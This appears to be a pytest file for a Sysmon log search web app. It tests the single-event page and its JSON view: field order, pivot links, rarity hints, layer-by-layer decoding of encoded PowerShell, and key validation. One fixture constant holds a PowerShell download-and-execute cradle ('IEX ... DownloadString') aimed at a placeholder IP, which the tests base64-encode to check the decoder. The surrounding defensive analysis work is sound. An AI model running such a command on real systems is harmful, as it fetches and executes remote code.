"""The page of one event, its twin for machines, and the pane that the search page shows too."""

from __future__ import annotations

import base64
from collections.abc import Callable
from datetime import datetime, timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
from flask.testing import FlaskClient
from lxml import html

from app.sysmon.evaluate import holds
from app.sysmon.events import Event
from app.sysmon.language import parse
from app.web import links
from tests import builders
from tests.builders import NOON, process_access, process_create
from tests.web.conftest import Add, Get, text_of

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
SHA256 = "A1" * 32


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def fields(page: html.HtmlElement) -> dict[str, str]:
    """Return the table of fields: name and value, as they are read."""
    rows = page.xpath("//table[@class='fields']/tbody/tr")
    return {text_of(row, "th"): text_of(row, "td[1]/span[@class='all']") for row in rows}


def found_by(page: html.HtmlElement, path: str) -> list[html.HtmlElement]:
    """Return the elements that a path finds."""
    elements = page.xpath(path)
    assert isinstance(elements, list)
    return [element for element in elements if isinstance(element, html.HtmlElement)]


def pivots(page: html.HtmlElement) -> dict[str, str]:
    """Return the links to go on by: text, address."""
    anchors = page.xpath("//nav[@class='links']/a")
    return {text_of(anchor, "span[1]"): anchor.get("href") for anchor in anchors}


def narrowing(page: html.HtmlElement, name: str) -> list[str]:
    """Return the queries of the + and − of a field."""
    hrefs = page.xpath(f"//table[@class='fields']//tr[th='{name}']/td[2]/a/@href")
    return [parse_qs(urlsplit(href).query)["q"][0] for href in hrefs]


def test_a_process_creation_shows_all_its_fields_in_order(add: Add, get: Get) -> None:
    made = process_create(
        computer="WS-01.example",
        sha256=SHA256,
        md5="0B" * 16,
        hashes=f"MD5={'0B' * 16},SHA256={SHA256}",
        channel="Microsoft-Windows-Sysmon/Operational",
        other={"Extra": "of this log only"},
    )
    add(made)
    page = get(links.event(made.key))
    shown = fields(page)
    names = list(shown)

    assert names[:3] == ["EventId", "Computer", "Time"]
    assert names.index("UtcTime") < names.index("Image") < names.index("CommandLine") < names.index("Hashes")
    assert names[names.index("Hashes") + 1 :][:2] == ["MD5", "SHA256"]
    assert names.index("SHA256") < names.index("ParentImage") < names.index("RecordId") < names.index("Extra")
    assert shown["CommandLine"] == '"C:\\Windows\\System32\\cmd.exe" /c whoami'
    assert shown["User"] == "EXAMPLE\\alice"
    assert shown["Time"] == "2019-01-08 12:00:00.000"
    assert shown["Extra"] == "of this log only"
    assert set(made.named()) - {"event_key"} == set(names)
    assert "Not in this event: RuleName, FileVersion" in text_of(page, "//article")


def test_the_head_says_what_when_where_and_which(add: Add, get: Get) -> None:
    made = process_create(computer="WS-01.example", record_id=1_234_567)
    add(made)
    page = get(links.event(made.key))

    assert page.findtext(".//title") == "Process created: cmd.exe on WS-01.example · SysmonSearch"
    head = text_of(page, "//div[@class='pane__head']")
    assert head == "Process created 2019-01-08 12:00:00.000 UTC WS-01.example event 1, record 1,234,567"
    assert page.xpath("//link[@rel='alternate'][@type='application/json']/@href") == [
        links.event(made.key, ".json")
    ]


@pytest.mark.parametrize(("apart", "is_shown"), [(59, False), (61, True), (-61, True), (86_400 * 11, True)])
def test_the_record_time_stands_beside_a_utctime_that_is_off(
    add: Add, get: Get, apart: int, is_shown: bool
) -> None:
    made = process_create(time=NOON, utc_time=NOON - timedelta(seconds=apart))
    add(made)
    dashed = get(links.event(made.key)).xpath("//div[@class='pane__head']//*[@class='derived']")
    assert [text_of(one) for one in dashed] == (["2019-01-08 12:00:00.000"] if is_shown else [])


def test_an_event_without_utctime_says_that_it_shows_another_time(add: Add, get: Get) -> None:
    made = builders.as_stored(Event(time=NOON, computer="a", event_id=5, values={"record_id": 1}))
    add(made)
    page = get(links.event(made.key))
    assert "recorded" in text_of(page, "//div[@class='pane__head']")
    assert "no UtcTime" in page.xpath("string(//div[@class='pane__head']//*[@class='derived']/@title)")


def test_an_encoded_command_is_read_layer_by_layer(add: Add, get: Get) -> None:
    inner = f"powershell -enc {encoded(SCRIPT)}"
    made = process_create(command_line=f"cmd /c powershell -e {encoded(inner)}")
    add(made)
    page = get(links.event(made.key))

    decoded = [text_of(one) for one in page.xpath("//*[contains(@class, 'code--decoded')]")]
    assert decoded == [inner, SCRIPT]
    heads = [text_of(one) for one in page.xpath("//section[.//*[contains(@class, 'code--decoded')]]/h3")]
    assert heads[0].startswith("Decoded -e, Base64, UTF-16LE")
    assert heads[1].startswith("Decoded, layer 2 -enc, Base64, UTF-16LE")
    assert "Nothing was run or fetched." in text_of(page, "//article")


def test_a_parents_same_command_line_is_not_decoded_twice(add: Add, get: Get) -> None:
    line = f"powershell -enc {encoded(SCRIPT)}"
    made = process_create(command_line=line, parent_command_line=f"cmd /c {line}")
    add(made)
    assert len(get(links.event(made.key)).xpath("//*[contains(@class, 'code--decoded')]")) == 1


def test_an_encoded_registry_value_says_its_field(add: Add, get: Get) -> None:
    made = builders.registry_value_set(details=encoded(SCRIPT))
    add(made)
    page = get(links.event(made.key))
    assert text_of(page, "//section[.//*[contains(@class, 'code--decoded')]]/h3").startswith(
        "Decoded Details: Base64, UTF-16LE"
    )


def test_each_value_narrows_a_search_to_it_and_without_it(add: Add, get: Get) -> None:
    path = 'C:\\Temp\\a "b" (1) * ?\\x.exe'
    made = process_create(image=path, process_id=77, other={"Odd Name": "a:b*"})
    add(made, process_create())
    page = get(links.event(made.key))

    for name in ("Image", "ProcessId", "UtcTime", "Computer", "Odd Name"):
        only, without = narrowing(page, name)
        assert holds(parse(only), made)
        assert not holds(parse(without), made)
    assert not holds(parse(narrowing(page, "Image")[0]), process_create())


def test_links_go_on_to_graph_tables_parent_and_equal_values(add: Add, get: Get) -> None:
    parent = process_create(computer="WS-01", image="C:\\Windows\\explorer.exe")
    child = process_create(
        computer="WS-01",
        sha256=SHA256,
        hashes=f"SHA256={SHA256}",
        parent_process_guid=parent.process_guid,
    )
    twin = process_create(computer="WS-02", sha256=SHA256, hashes=f"SHA256={SHA256}")
    own = builders.file_create(computer="WS-01", process_guid=child.process_guid)
    far = process_create(computer="WS-01", time=NOON + timedelta(hours=2))
    add(parent, child, twin, own, far)
    page = get(links.event(child.key))
    found = pivots(page)

    assert found["Process graph of cmd.exe (3120)"] == links.process("WS-01", child.process_guid or "")
    assert found["All events of cmd.exe (3120)"] == links.process_events("WS-01", child.process_guid or "")
    assert found["All events of WS-01, 11:00–13:00"] == links.event_around(child.key)
    assert found["Graph of WS-01, 11:00–13:00"] == links.event_correlation(child.key)
    assert found["Parent: explorer.exe (2280)"] == links.process("WS-01", parent.process_guid or "")
    assert parse_qs(urlsplit(found["Same SHA256"]).query) == {"q": [f"SHA256:{SHA256}"]}
    counts = {text_of(a, "span[1]"): text_of(a, "span[2]") for a in page.xpath("//nav[@class='links']/a")}
    assert counts["All events of cmd.exe (3120)"] == "2 events"
    assert counts["All events of WS-01, 11:00–13:00"] == "3 events"
    assert counts["Same SHA256"] == "2 events on 2 computers"


def test_a_domain_is_left_out_where_room_is_short_and_an_address_is_not(add: Add, get: Get) -> None:
    made = [process_create(computer=name) for name in ("WS-01.example", "192.0.2.7")]
    add(*made)
    assert "All events of WS-01, 11:00–13:00" in pivots(get(links.event(made[0].key)))
    assert "All events of 192.0.2.7, 11:00–13:00" in pivots(get(links.event(made[1].key)))


def test_a_parent_that_was_never_logged_is_still_a_way_to_go(add: Add, get: Get) -> None:
    made = process_create(computer="ws-01")
    add(made)
    parent = made.parent_process_guid or ""
    assert pivots(get(links.event(made.key)))["Parent: explorer.exe (2280)"] == links.process("ws-01", parent)


def test_an_event_between_two_processes_leads_to_both(add: Add, get: Get) -> None:
    made = process_access(computer="ws-01")
    add(made)
    page = get(links.event(made.key))
    found = pivots(page)
    shown = fields(page)

    assert found["Process graph of cmd.exe (3120)"] == links.process("ws-01", made.process_guid or "")
    assert found["Target process: lsass.exe (516)"] == links.process(
        "ws-01", made.text_of("target_process_guid") or ""
    )
    assert shown["SourceImage"] == "C:\\Windows\\System32\\cmd.exe"
    assert "Image" not in shown


def test_a_value_seen_on_one_computer_says_so(add: Add, get: Get) -> None:
    rare = process_create(computer="a", image="C:\\Temp\\rare.exe")
    add(rare, process_create(computer="b"), process_create(computer="c", time=NOON + timedelta(days=1)))
    row = get(links.event(rare.key)).xpath("//table[@class='fields']//tr[th='Image']")[0]
    assert "1/3" in text_of(row)
    assert "only here, first seen 2019-01-08 12:00:00" in text_of(row)
    title = row.xpath("string(.//*[@class='seen']/@title)")
    assert title == "on 1 of 3 computers, first seen 2019-01-08 12:00:00.000 UTC"


def test_no_rarity_is_told_where_there_is_one_computer_only(add: Add, get: Get) -> None:
    made = process_create()
    add(made)
    assert not get(links.event(made.key)).xpath("//*[@class='seen']")


@pytest.mark.parametrize(
    ("make", "name", "value"),
    [
        (builders.file_create, "TargetFilename", "C:\\Temp\\a.exe"),
        (builders.file_create_time, "TargetFilename", "C:\\Temp\\a.exe"),
        (builders.registry_value_set, "Details", "C:\\Temp\\a.exe"),
        (builders.registry_object, "TargetObject", "HKLM\\SOFTWARE\\Example"),
        (builders.image_load, "ImageLoaded", "C:\\Windows\\System32\\kernel32.dll"),
        (builders.network_connect, "DestinationIp", "192.168.1.200"),
        (builders.dns_query, "QueryName", "www.example.net"),
    ],
)
def test_what_an_event_was_done_to_is_never_left_out(
    add: Add, get: Get, make: Callable[[], Event], name: str, value: str
) -> None:
    """The old pages showed neither file nor key, data nor DLL."""
    made = make()
    add(made)
    assert fields(get(links.event(made.key)))[name] == value


def test_the_user_is_that_of_the_process_and_never_the_log_service(add: Add, get: Get) -> None:
    """The old search showed the account of the Sysmon service for every event."""
    start = process_create(user="EXAMPLE\\alice")
    later = builders.file_create(process_guid=start.process_guid, user=None)
    add(start, later)
    row = get(links.event(later.key)).xpath("//table[@class='fields']//tr[th='User']")[0]

    assert text_of(row, ".//*[@class='derived']") == "EXAMPLE\\alice"
    assert "from the creation of its process" in text_of(row, "td[1]")
    assert "User" not in later.named()


def test_the_table_around_is_that_of_the_event_itself_after_midnight(add: Add, get: Get) -> None:
    """The old link took the day on which the window began."""
    midnight = datetime.fromisoformat("2019-01-09T00:10:00+00:00")
    made = process_create(computer="ws-01", time=midnight)
    add(made)
    assert "All events of ws-01, 23:10–01:10" in pivots(get(links.event(made.key)))


def test_the_twin_is_the_event_as_a_search_has_it_and_what_is_decoded(add: Add, client: FlaskClient) -> None:
    made = process_create(command_line=f"powershell -enc {encoded(SCRIPT)}")
    add(made)
    document = client.get(links.event(made.key, ".json")).get_json()

    assert document["event"] == made.named()
    ((found),) = document["decoded"]
    assert found["field"] == "CommandLine"
    assert found["text"] == SCRIPT
    assert found["how"] == "-enc, Base64, UTF-16LE"
    line = document["event"]["CommandLine"]
    assert line[found["start"] : found["end"]] == encoded(SCRIPT)


def test_a_key_in_other_letters_leads_to_the_one_address(add: Add, client: FlaskClient) -> None:
    made = process_create(computer="WS-01.example")
    add(made)
    for twin in ("", ".json", "/around", "/around.json"):
        answer = client.get(links.event(str(made.key).upper(), twin) + "?fold=0")
        assert answer.status_code == 308
        assert answer.headers["Location"] == links.event(made.key, twin) + "?fold=0"


@pytest.mark.parametrize("twin", ["", ".json", "/around", "/around.json"])
def test_an_unknown_key_says_what_to_do(client: FlaskClient, twin: str) -> None:
    answer = client.get(links.event("ws-01~1~20190108T120000.000~4711", twin))
    assert answer.status_code == 404
    if twin.endswith(".json"):
        assert answer.get_json()["error"]["type"] == "NotFound"
    else:
        page = html.fromstring(answer.data)
        assert "No event ws-01~1~20190108T120000.000~4711 is stored." in text_of(page, "//*[@role='alert']")
        assert page.xpath("//main//a[@href='/search']")


@pytest.mark.parametrize("twin", ["", ".json", "/around", "/around.json"])
@pytest.mark.parametrize(
    "key", ["x", "ws-01~1~20191308T120000.000~1", "ws-01~1~-~y", "%00", "a~b~c~d", "<b>"]
)
def test_what_is_no_key_is_refused_and_one_is_shown(client: FlaskClient, key: str, twin: str) -> None:
    answer = client.get(links.event(key, twin))
    assert answer.status_code == 400
    if twin.endswith(".json"):
        assert answer.get_json()["error"]["type"] == "BadQuery"


def test_a_store_that_is_down_says_to_come_back(down: FlaskClient) -> None:
    for twin in ("", ".json", "/around", "/around.json"):
        answer = down.get(links.event("ws-01~1~20190108T120000.000~4711", twin))
        assert answer.status_code == 503
        assert answer.headers["Retry-After"]
